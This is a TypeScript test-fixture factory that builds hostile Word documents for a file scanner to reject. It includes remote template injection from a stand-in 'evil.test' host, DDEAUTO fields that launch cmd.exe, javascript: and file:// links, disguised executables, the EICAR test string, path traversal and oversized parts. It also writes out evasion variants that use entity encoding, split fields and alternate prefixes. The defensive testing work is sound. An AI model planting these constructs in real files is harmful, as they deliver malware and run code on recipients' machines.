import { makeDoc, makeDocx, makeZip, relations, wordStream, wordText } from '../documents.factory.ts'
import { type HostileFile, type HostileKind, eicar, exe, inFormat, script } from './hostile-file.factory.ts'

export async function hostileDocxs(): Promise<HostileFile[]> {
  return inFormat('docx', [...(await docxs()), ...(await docxsInDisguise())])
}

export async function hostileDocs(): Promise<HostileFile[]> {
  return inFormat('doc', await docs())
}

async function docxs(): Promise<HostileKind[]> {
  const docx = await makeDocx()
  const external = (type: string, target = 'https://evil.test/a.dotm') =>
    relations(
      `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
    )
  const withField = (code: string) => wordText(`<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`)
  const renamed = (to: string) => Buffer.from(docx.toString('latin1').replaceAll('_rels/.rels', to), 'latin1')
  return [
    ['macros', await makeDocx({ 'word/vbaProject.bin': Buffer.alloc(100) })],
    ['macros by its type', await makeDocx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    ['a control', await makeDocx({ 'word/activeX/activeX1.bin': 'x' })],
    ['another document', await makeDocx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a program', await makeDocx({ 'word/media/a.exe': exe })],
    ['a program named as a picture', await makeDocx({ 'word/media/a.png': exe })],
    ['a page', await makeDocx({ 'a.html': script })],
    [
      'a template from elsewhere',
      await makeDocx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }),
    ],
    ['an object from elsewhere', await makeDocx({ 'word/_rels/document.xml.rels': external('oleObject') })],
    ['a picture from elsewhere', await makeDocx({ 'word/_rels/document.xml.rels': external('image') })],
    [
      'a link to a script',
      await makeDocx({ 'word/_rels/document.xml.rels': external('hyperlink', 'javascript:x') }),
    ],
    [
      'a link to a program',
      await makeDocx({ 'word/_rels/document.xml.rels': external('hyperlink', 'file:///c:/a.exe') }),
    ],
    [
      'a field that starts a program',
      await makeDocx({ 'word/document.xml': withField(' DDEAUTO c:\\\\cmd.exe') }),
    ],
    ['entities', await makeDocx({ 'word/document.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${wordText('')}` })],
    [
      'text of two bytes a sign',
      await makeDocx({ 'word/document.xml': Buffer.from(wordText(''), 'utf16le') }),
    ],
    ['a part of 110 MB', await makeDocx({ 'word/big.xml': Buffer.alloc(110_000_000, 0x20) })],
    ['lists of relations with 4.5 MB', await makeDocx(longLists(3))],
    [
      '3,000 parts',
      await makeDocx(Object.fromEntries(Array.from({ length: 3000 }, (_, at) => [`word/${at}.xml`, 'x']))),
    ],
    ['a path that leads upwards', renamed('../../a.xml')],
    ['an absolute path', renamed('/etc/a.rels')],
    ['a path of Windows', renamed('C:\\a\\b.xml')],
    ['one part twice', renamed('word/document.xml'.slice(0, 11))],
    ['without its text', await makeDocx({ 'word/document.xml': undefined })],
    ['without its list of types', await makeDocx({ '[Content_Types].xml': undefined })],
    ['another archive', await makeZip({ 'a.txt': 'x' })],
    ['then html', Buffer.concat([docx, Buffer.from(script)])],
    ['cut in half', docx.subarray(0, docx.length / 2)],
    ['a changed bit', changed(docx)],
    ['the test virus in it', await makeDocx({ 'word/media/a.png': eicar })],
  ]
}

/** Things that Word opens or runs although they are written differently from Word's own output. */
async function docxsInDisguise(): Promise<HostileKind[]> {
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const away = `Type="${office}/attachedTemplate" Target="https://evil.test/a.dotm"`
  const related = (inner: string) => ({ 'word/_rels/settings.xml.rels': relations(inner) })
  const linked = (target: string) =>
    related(`<Relationship Id="r" Type="${office}/hyperlink" Target="${target}" TargetMode="External"/>`)
  const field = (inner: string) => ({ 'word/document.xml': wordText(`<w:p><w:r>${inner}</w:r></w:p>`) })
  const compound = Buffer.from('d0cf11e0a1b11ae1', 'hex')
  const all: [string, Record<string, string | Buffer>][] = [
    [
      'a template, its mode with a number',
      related(`<Relationship Id="r" ${away} TargetMode="&#69;xternal"/>`),
    ],
    ['a template behind a bracket', related(`<Relationship Id="a>b" ${away} TargetMode="External"/>`)],
    ['a template with a prefix', related(`<a-b:Relationship Id="r" ${away} TargetMode="External"/>`)],
    [
      'a template that says it is a link',
      related(`<Relationship a:Type="/hyperlink" ${away} TargetMode="External"/>`),
    ],
    ['a link to a program, with a number', linked('&#102;ile:///c:/a.exe')],
    ['a link to a share', linked(String.raw`\\evil.test\a`)],
    [
      'text of another kind to take in',
      {
        ...related(`<Relationship Id="r" Type="${office}/aFChunk" Target="/word/a.xml"/>`),
        'word/a.xml': '<a/>',
      },
    ],
    ['rich text named xml', { 'word/a.xml': String.raw`{\rtf1 {\object\objdata 01}}` }],
    ['an object named xml', { 'word/a.xml': compound }],
    ['an object named png', { 'word/media/a.png': compound }],
    ['a field, its letter a number', field('<w:instrText>&#68;DEAUTO c:\\cmd.exe</w:instrText>')],
    ['a field with another prefix', field('<x:instrText>DDEAUTO c:\\cmd.exe</x:instrText>')],
    ['a field as it is', field('<w:instrText><![CDATA[DDE "c:\\cmd.exe"]]></w:instrText>')],
    [
      'a field in two parts',
      field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText>'),
    ],
    ['a simple field', field(`<w:fldSimple w:instr='"DDE c:\\cmd.exe'/>`)],
    ['another code', { 'word/settings.xml': '<?xml version="1.0" encoding="IBM037"?><a/>' }],
  ]
  return Promise.all(all.map(async ([what, parts]): Promise<HostileKind> => [what, await makeDocx(parts)]))
}

/** Lists that a careless reader would read again with each of their pieces: hours for what packs into a few kilobytes. */
function longLists(count: number): Record<string, string> {
  const list = relations('<?xml '.repeat(250_000))
  return Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/_rels/${at}.xml.rels`, list]))
}

/** Flips one bit in the compressed text of the document. */
function changed(docx: Buffer): Buffer {
  const bytes = Buffer.from(docx)
  const at = bytes.indexOf('word/document.xml') + 40
  bytes[at] = (bytes[at] ?? 0) ^ 4
  return bytes
}

async function docs(): Promise<HostileKind[]> {
  const doc = makeDoc()
  const zip = await makeZip({ 'a.txt': 'x' })
  const project = { name: 'VBA', below: [{ name: 'ThisDocument', bytes: Buffer.alloc(10) }] }
  const deeper = makeDoc([{ name: 'A', below: [{ name: '_VBA_PROJECT', bytes: Buffer.alloc(10) }] }])
  const native = { name: '\u0001Ole10Native', bytes: exe }
  return [
    ['macros', makeDoc([{ name: 'Macros', below: [project] }]), named('Macros', 'VBA')],
    ['macros, hidden deeper', deeper, named('_VBA_PROJECT')],
    [
      'macros under a name that says it is shorter',
      shorterName(deeper, '_VBA_PROJECT'),
      named('_VBA_PROJECT'),
    ],
    [
      'another file',
      makeDoc([{ name: 'ObjectPool', below: [{ name: '_1', below: [native] }] }]),
      named('\u0001Ole10Native'),
    ],
    [
      'an equation that is a program',
      makeDoc([{ name: 'Equation Native', bytes: Buffer.alloc(10) }]),
      named('Equation Native'),
    ],
    [
      'a program in its data',
      makeDoc([{ name: 'Data', bytes: exe }]),
      /This program cannot be run in DOS mode/,
    ],
    [
      'a field that starts a program',
      makeDoc([], wordStream({ fill: 'DDEAUTO c:\\cmd.exe ' })),
      /DDEAUTO c:/,
    ],
    ['encrypted', makeDoc([], wordStream({ flags: 0x0100 })), '\u00ec\u00a5\u00c1\0cy 123\0\u0001'],
    [
      'a table of numbers',
      Buffer.from(doc.toString('latin1').replaceAll('W\0o\0r\0d\0D\0', 'B\0o\0o\0k\0D\0'), 'latin1'),
    ],
    ['not a text inside', makeDoc([], Buffer.alloc(8192, 7))],
    [
      'then a zip',
      Buffer.concat([doc, zip]),
      // Archive readers begin at the record in the end.
      (bytes) => bytes.subarray(-22).equals(zip.subarray(-22)),
    ],
    ['then html', Buffer.concat([doc, Buffer.alloc(2000, script)])],
    ['cut in half', doc.subarray(0, doc.length / 2)],
    ['a head only', doc.subarray(0, 512)],
    ['a chain that is a circle', circle(doc)],
  ]
}

/** A name in the directory, with the zero behind it. */
function named(...names: string[]): RegExp {
  const utf16 = (name: string): string => Buffer.from(`${name}\0`, 'utf16le').toString('latin1')
  return new RegExp(names.map(utf16).join('|'))
}

function shorterName(doc: Buffer, name: string): Buffer {
  const bytes = Buffer.from(doc)
  bytes.writeUInt16LE(6, bytes.indexOf(name, 0, 'utf16le') + 64)
  return bytes
}

/** The second sector in the directory's chain is its first. */
function circle(doc: Buffer): Buffer {
  const bytes = Buffer.from(doc)
  const directory = bytes.readUInt32LE(48)
  bytes.writeUInt32LE(directory, 512 + directory * 4)
  return bytes
}
